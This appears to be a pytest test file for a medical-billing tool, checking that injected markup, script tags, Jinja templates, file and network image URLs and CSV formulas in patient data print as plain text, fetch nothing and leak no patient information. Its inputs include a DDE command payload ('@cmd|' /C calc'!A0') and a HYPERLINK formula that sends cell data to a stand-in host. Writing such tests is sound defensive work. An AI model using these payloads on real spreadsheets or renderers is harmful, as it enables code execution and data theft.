"""Injection and leakage: what the data says is printed as text, nothing is fetched or attached, no
formula runs in a spreadsheet, no patient data reaches an error line or the terminal, and every file
written is readable by its owner only.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import socket
import stat
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pdfplumber
import pypdf
import pytest
import yaml
from helpers import run, stderr_lines, without_edition_note

from superbill.exports.csvexport import guard
from superbill.inputs.starter import write_starter

# ---------------------------------------------------------------- a canary and a listener


@pytest.fixture
def canary():
    """A short-named file whose content must never appear in any output."""
    fd, name = tempfile.mkstemp(prefix="sbc", suffix=".png", dir="/tmp")
    secret = "CANARY-" + os.urandom(6).hex()
    with os.fdopen(fd, "w") as handle:
        handle.write(secret)
    yield Path(name), secret
    os.unlink(name)


@contextlib.contextmanager
def listener():
    """A TCP port on 127.0.0.1 that records every connection made to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    hits: list = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            hits.append(conn.recv(200))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], hits
    finally:
        stop.set()
        thread.join(2)
        server.close()


def markup(canary_path: Path, port: int) -> dict[str, str]:
    """Hostile text per length class: tags, an image and an attachment of the canary, a network
    image, a stylesheet import, a script, a Jinja expression and an HTML entity."""
    c = canary_path.as_uri()
    return {
        "b": "<b>B</b>",
        "img": f'<img src="{c}">',
        "att": f'<a rel="attachment" href="{c}">A</a>',
        "net": f'<img src="http://127.0.0.1:{port}/x">',
        "css": f'<style>@import url("{c}")</style>',
        "js": "<script>alert(1)</script>",
        "jinja": "{{ 7*7 }}{% if 1 %}",
        "entity": "&amp; &lt;",
    }


def squash(text: str) -> str:
    return "".join(text.split())


def pdf_text(path: Path) -> str:
    with pdfplumber.open(path) as pdf:
        return "\n".join(page.extract_text() or "" for page in pdf.pages)


def assert_nothing_attached_or_fetched(path: Path, canary: tuple[Path, str]) -> None:
    data = path.read_bytes()
    reader = pypdf.PdfReader(io.BytesIO(data))
    root = reader.trailer["/Root"]
    assert "/EmbeddedFiles" not in (root["/Names"].get_object() if "/Names" in root else {})
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            assert annot.get_object().get("/Subtype") != "/FileAttachment"
    with pdfplumber.open(path) as pdf:
        assert sum(len(page.images) for page in pdf.pages) == 0
    assert canary[1].encode() not in data
    assert canary[1] not in pdf_text(path)


# ---------------------------------------------------------------- markup in every text field


@pytest.fixture
def hostile_clinic(tmp_path, canary):
    """The starter clinic with markup in every free-text field of the clinic, the patient (and a
    subscriber), the insurance, the sessions and the prior-authorization request."""
    folder = tmp_path / "clinic"
    write_starter(folder)
    with listener() as (port, hits):
        m = markup(canary[0], port)
        clinic = yaml.safe_load((folder / "clinic.yaml").read_text())
        clinic["practice"]["name"] = f"{m['b']} {m['jinja']} Clinic"
        clinic["practice"]["address"]["street"] = f"100 {m['css'][:44]}"
        clinic["practice"]["address"]["street2"] = m["att"][:55]
        clinic["practice"]["email"] = "x<b>@example.com"
        clinic["providers"][0].update(first_name=m["img"][:60], last_name=f"Lee {m['b']}",
                                      credentials="MD <i>", specialty=m["js"])
        clinic["medications"]["ketamine"]["name"] = "Ketamine <b>HCl</b>"
        (folder / "clinic.yaml").write_text(yaml.safe_dump(clinic, sort_keys=False))

        patient = yaml.safe_load((folder / "patients" / "example.yaml").read_text())
        patient["patient"].update(first_name=f"Jane {m['b']}", middle_name=m["jinja"], last_name=m["img"][:60],
                                  suffix="<i>Jr")
        patient["patient"]["address"].update(street=f"1 {m['net'][:50]}", street2=m["entity"], city="<u>Spfld</u>")
        patient["insurance"].update(payer_name=f"Plan {m['js']}", group_name=m["b"], group_number="<G>1")
        patient["insurance"]["subscriber"] = {
            "relationship": "spouse", "first_name": m["b"], "last_name": f"Sub {m['entity']}", "dob": "1975-05-05",
            "sex": "M", "address": {"street": f"2 {m['att'][:50]}", "city": "Spfld", "state": "IL", "zip": "62702"}}
        session = patient["sessions"][0]
        session["services"][0]["description"] = f"ECG {m['b']} {m['jinja']}"
        session["payments"][0].update(method="<b>card</b>", reference=m["jinja"][:40])
        (folder / "patients" / "example.yaml").write_text(yaml.safe_dump(patient, sort_keys=False))

        request = yaml.safe_load((folder / "requests" / "example.yaml").read_text())
        request["condition"]["summary"] = " ".join(m.values())
        request["condition"]["function"] = m["att"]
        request["prior_treatments"][0].update(treatment=m["img"], outcome=m["b"], reason_stopped=m["jinja"])
        request["plan"].update(schedule=m["js"], dose=f"0.5 mg/kg/h {m['b']}", response_criteria=m["css"],
                               monitoring=m["net"])
        request["payer"] = {"department": m["b"], "policy": m["jinja"]}
        (folder / "requests" / "example.yaml").write_text(yaml.safe_dump(request, sort_keys=False))
        yield folder, m, hits


def test_markup_in_every_field_is_printed_as_text_and_nothing_is_fetched(hostile_clinic, canary, tmp_path):
    folder, m, hits = hostile_clinic
    clinic = folder / "clinic.yaml"
    check = run("check", folder / "patients" / "example.yaml", folder / "requests" / "example.yaml", clinic=clinic)
    # check refuses only what the 837P export would: a group number with '<' and '>' in it
    assert check.exit_code == 1, check.output
    assert [line for line in check.stderr.splitlines() if ": error: " in line] == [
        f"{folder / 'patients' / 'example.yaml'}: insurance.group_number: error: holds a character X12 cannot carry "
        "(letters, digits, '-', '.', '/' are safe)"]

    # the superbill, from a real process: WeasyPrint's own warnings (a refused URL could quote the
    # data) must not reach the terminal either
    render = subprocess.run([sys.executable, "-m", "superbill.cli", "--clinic", str(clinic), "render",
                             str(folder / "patients" / "example.yaml"), "-o", str(tmp_path / "sb")],
                            capture_output=True, text=True, timeout=120)
    assert render.returncode == 0, render.stderr
    assert without_edition_note(render.stderr.splitlines()) == []  # nothing but the FY2027 edition note
    (superbill,) = (tmp_path / "sb").glob("*.pdf")
    assert render.stdout.splitlines() == [f"wrote {superbill}", "1 superbill(s) written for 1 of 1 file(s)"]
    text = squash(pdf_text(superbill))
    for shown in (f"Jane{m['b']}", squash(m["jinja"]), "Ketamine<b>HCl</b>", f"Plan{squash(m['js'])}", "<u>Spfld</u>",
                  squash(m["entity"]), "<b>card</b>", "<i>Jr", squash(m["img"][:60]), f"ECG{m['b']}"):
        assert shown in text, shown
    assert_nothing_attached_or_fetched(superbill, canary)

    # the letter
    letter = run("letter", folder / "requests" / "example.yaml", "-o", tmp_path / "letter.pdf", clinic=clinic)
    assert letter.exit_code == 0, letter.output
    text = squash(pdf_text(tmp_path / "letter.pdf"))
    for shown in (f"Jane{m['b']}", squash(m["js"]), squash(m["att"]), squash(m["css"]), squash(m["img"]),
                  squash(m["jinja"]), squash(m["net"]), f"0.5mg/kg/h{m['b']}"):
        assert shown in text, shown
    assert_nothing_attached_or_fetched(tmp_path / "letter.pdf", canary)

    # the CMS-1500: upper-case ASCII as the NUCC wants it (names keep their symbols, the payer and
    # addresses lose them): the markup is plain text either way (item 2, the long image tag before
    # JANE, is cut at its 28-column box; item 4 shows the subscriber's markup whole)
    export = run("export", folder / "patients", "-o", tmp_path / "out", "--format", "cms1500", "--jobs", "1",
                 clinic=clinic)
    assert export.exit_code == 0, export.output
    text = squash(pdf_text(tmp_path / "out" / "cms1500-000000001.pdf"))
    for shown in ("<B>B</B>", "<IMGSRC=", "SUB&AMP;&LT;,<B>B</B>", "PLANSCRIPTALERT1/SCRIPT"):
        assert shown in text, shown
    assert_nothing_attached_or_fetched(tmp_path / "out" / "cms1500-000000001.pdf", canary)

    assert hits == []  # no connection to the network address in the data


def test_a_batch_of_superbills_keeps_each_patient_in_their_own_pdf(tmp_path):
    """Rendering many superbills in one run shares work (fonts, workers): never a patient's text."""
    folder = tmp_path / "clinic"
    write_starter(folder)
    base = yaml.safe_load((folder / "patients" / "example.yaml").read_text())
    names = {}
    for i in range(5):
        doc = dict(base, patient=dict(base["patient"], id=f"P{i}", first_name=f"Uniquefirst{i}",
                                      last_name=f"Zzlast{i}q"))
        (folder / "patients" / f"p{i}.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
        names[f"P{i}"] = (f"Uniquefirst{i}", f"Zzlast{i}q")
    (folder / "patients" / "example.yaml").unlink()
    result = run("export", folder / "patients", "-o", tmp_path / "out", "--format", "superbill",
                 clinic=folder / "clinic.yaml")
    assert result.exit_code == 0, result.output
    pdfs = sorted((tmp_path / "out").glob("superbill-*.pdf"))
    assert len(pdfs) == 5
    for pdf in pdfs:
        pid = pdf.name.split("-")[2].split("_")[0]
        text = pdf_text(pdf)
        data = pdf.read_bytes()
        for other, (first, last) in names.items():
            if other == pid:
                assert f"{first} {last}" in text
            else:
                assert first not in text and last not in text, (pdf.name, other)
                assert first.encode() not in data and last.encode() not in data


# ---------------------------------------------------------------- CSV formula guard


def test_csv_cells_that_would_run_as_formulas_are_guarded(tmp_path):
    folder = tmp_path / "clinic"
    write_starter(folder)
    path = folder / "patients" / "example.yaml"
    doc = yaml.safe_load(path.read_text())
    doc["patient"].update(id='=HYPERLINK("http://x.example/?"&A1)', first_name="+SUM(1,2)", last_name="@cmd|' /C calc'!A0")
    doc["insurance"].update(member_id="-2-3", payer_name="=1+1 Plan")
    doc["sessions"][0]["services"][0]["description"] = "-1+1 ECG"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    result = run("export", folder / "patients", "-o", tmp_path / "out", "--format", "csv", "--jobs", "1",
                 clinic=folder / "clinic.yaml")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "claims-000000001.csv").read_text(encoding="utf-8-sig"))))
    assert len(rows) == 6
    first = rows[0]
    assert first["patient_id"] == "'" + doc["patient"]["id"]
    assert first["claim_id"] == "'" + doc["patient"]["id"] + "-20261102"
    assert first["patient_first_name"] == "'+SUM(1,2)"
    assert first["patient_last_name"] == "'@cmd|' /C calc'!A0"
    assert first["member_id"] == "'-2-3"
    assert first["payer_name"] == "'=1+1 Plan"
    assert [r["description"] for r in rows if r["code"] == "93000"] == ["'-1+1 ECG"]
    for row in rows:
        for value in row.values():
            # the one formula superbill writes: ="..." around an identifier's digits (leading zeros kept)
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r'="[0-9]+"', value), value
    # money, units and dates are ours: plain, never quoted into text
    assert (first["charge"], first["total_charge"], first["dob"]) == ("189.00", "1035.00", "1980-01-01")


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tTAB", "\rCR"])
def test_the_guard_covers_every_formula_start(cell):
    assert guard(cell) == "'" + cell
    assert guard("a" + cell) == "a" + cell


# ---------------------------------------------------------------- no patient data in error lines

SECRETS = {
    ("patient", "first_name"): "SECRETFIRST" * 7,
    ("patient", "last_name"): "SECRETLAST" * 7,
    ("patient", "middle_name"): "SECRETMIDDLE" * 6,
    ("patient", "dob"): "SECRETDOB",
    ("patient", "phone"): "SECRET-PHONE",
    ("patient", "sex"): "SECRETSEX",
    ("patient", "address", "street"): "SECRETSTREET" * 5,
    ("patient", "address", "city"): "SECRETCITY" * 4,
    ("patient", "address", "zip"): "SECRETZIP",
    ("patient", "address", "state"): "SECRETSTATE",
    ("insurance", "member_id"): "SECRET MEMBER",
    ("insurance", "group_number"): "SECRETGROUP" * 5,
    ("insurance", "payer_name"): "SECRETPAYER" * 6,
    ("insurance", "payer_id"): "SECRET PAYER",
}


@pytest.mark.parametrize("where", list(SECRETS), ids=lambda w: ".".join(w))
def test_an_invalid_value_is_never_echoed(tmp_path, where):
    folder = tmp_path / "clinic"
    write_starter(folder)
    path = folder / "patients" / "example.yaml"
    doc = yaml.safe_load(path.read_text())
    node = doc
    for part in where[:-1]:
        node = node[part]
    node[where[-1]] = SECRETS[where]
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    clinic = folder / "clinic.yaml"
    dotted = ".".join(where)
    for args in (("check", path), ("check", "--json", path), ("claims", "--json", path),
                 ("export", path, "-o", tmp_path / "out", "--format", "837p,csv"),
                 ("render", path, "-o", tmp_path / "sb", "--html")):
        result = run(*args, clinic=clinic)
        assert result.exit_code == 1, (args, result.output)
        assert "SECRET" not in result.output, (args, result.output)
        if "--json" not in args:
            assert [line.split(": ")[1] for line in stderr_lines(result)] == [dotted], (args, result.stderr)


def test_valid_patient_data_never_reaches_the_terminal(tmp_path):
    """A successful run prints file names, counts and claim ids, never a name, a birth date or a
    member id (a terminal is scrollback, logs and screen shares)."""
    folder = tmp_path / "clinic"
    write_starter(folder)
    path = folder / "patients" / "example.yaml"
    doc = yaml.safe_load(path.read_text())
    doc["patient"].update(first_name="Phifirst", last_name="Philast", dob="1971-07-17")
    doc["patient"]["address"]["street"] = "77 Phistreet Rd"
    doc["insurance"].update(member_id="PHIMEMBER77", group_number="PHIGROUP")
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    request = folder / "requests" / "example.yaml"
    clinic = folder / "clinic.yaml"
    outputs = [run("check", path, request, clinic=clinic),
               run("render", path, "-o", tmp_path / "sb", "--html", clinic=clinic),
               run("letter", request, "-o", tmp_path / "l.html", "--html", clinic=clinic),
               run("export", folder / "patients", "-o", tmp_path / "out", "--format", "837p,csv", clinic=clinic),
               run("export", folder / "patients", "-o", tmp_path / "out", "--format", "837p,csv", clinic=clinic),
               run("ledger", "list", clinic=clinic)]
    for result in outputs:
        assert result.exit_code == 0, result.output
        for phi in ("Phifirst", "Philast", "1971", "Phistreet", "PHIMEMBER", "PHIGROUP"):
            assert phi not in result.output, (phi, result.output)


# ---------------------------------------------------------------- owner-only files


def test_every_file_written_is_owner_only_whatever_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        folder = tmp_path / "clinic"
        write_starter(folder)
        clinic = folder / "clinic.yaml"
        patient = folder / "patients" / "example.yaml"
        out = tmp_path / "new" / "out"
        assert run("export", folder / "patients", "-o", out, "--format", "837p,cms1500,csv,superbill",
                   clinic=clinic).exit_code == 0
        assert run("render", patient, "-o", tmp_path / "sb", clinic=clinic).exit_code == 0
        assert run("render", patient, "-o", tmp_path / "sbhtml", "--html", clinic=clinic).exit_code == 0
        assert run("letter", folder / "requests" / "example.yaml", "-o", tmp_path / "letters" / "l.pdf",
                   clinic=clinic).exit_code == 0
        assert run("letter", folder / "requests" / "example.yaml", "-o", tmp_path / "letters" / "l.html", "--html",
                   clinic=clinic).exit_code == 0
    finally:
        os.umask(old)
    written = sorted(out.iterdir()) + sorted((tmp_path / "sb").iterdir()) + sorted((tmp_path / "sbhtml").iterdir()) \
        + sorted((tmp_path / "letters").iterdir()) + sorted(folder.glob("superbill-ledger.sqlite3*"))
    suffixes = {p.suffix for p in written}
    assert {".837", ".csv", ".pdf", ".html", ".sqlite3"} <= suffixes
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    # folders the commands create hold PHI too: owner-only
    for created in (out, tmp_path / "sb", tmp_path / "letters"):
        assert stat.S_IMODE(created.stat().st_mode) == 0o700, created
    assert not [p for p in tmp_path.rglob(".*") if p.is_file()], "temporary files left behind"
